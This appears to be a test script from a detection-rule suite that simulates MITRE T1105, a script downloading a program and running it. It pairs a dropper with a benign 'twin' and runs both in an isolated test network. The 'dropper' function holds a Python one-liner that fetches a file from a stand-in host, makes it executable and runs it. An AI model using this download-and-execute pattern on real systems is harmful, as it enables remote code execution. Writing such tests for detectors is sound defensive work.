#!/bin/bash
# A script fetches a program by itself, makes it executable and runs it.
#: title: Program downloaded and run by a script
#: technique: T1105
#: needs: exec, connect, file_attribute
#: rules: program_downloaded_by_interpreter
#: twin: a script fetches data, and makes a program that was here executable
. "$DRIVERS/lib.sh"

dropper() {
	site
	python3 -c 'import os, subprocess, sys, urllib.request
urllib.request.urlretrieve(sys.argv[1], "dropped")
os.chmod("dropped", 0o755)
subprocess.run([os.path.abspath("dropped")])' http://203.0.113.7:8080/tool
}

data() {
	site
	python3 -c 'import os, sys, urllib.request
urllib.request.urlretrieve(sys.argv[1], "data")' http://203.0.113.7:8080/tool
	python3 -c 'import os, subprocess
os.chmod("site/tool", 0o755)
subprocess.run([os.path.abspath("site/tool")])'
}

attack() {
	in_own_network dropper
	did "$WORK/dropped"
}

twin() {
	in_own_network data
	did "$WORK/data"
}

"$1"
